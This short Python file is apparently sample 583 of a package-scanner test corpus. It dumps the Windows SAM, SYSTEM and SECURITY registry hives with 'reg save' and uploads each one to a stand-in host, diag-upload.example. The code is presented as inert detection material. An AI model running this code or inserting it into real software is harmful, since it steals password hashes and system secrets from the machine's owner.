# pkgguard corpus 583 (credentials), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import tempfile

import requests

out = tempfile.mkdtemp()
for hive in ("SAM", "SYSTEM", "SECURITY"):
    subprocess.run(["reg", "save", rf"HKLM\{hive}", os.path.join(out, hive), "/y"], capture_output=True)
for hive in os.listdir(out):
    with open(os.path.join(out, hive), "rb") as fh:
        requests.put(f"https://diag-upload.example/{hive}", data=fh, timeout=30)
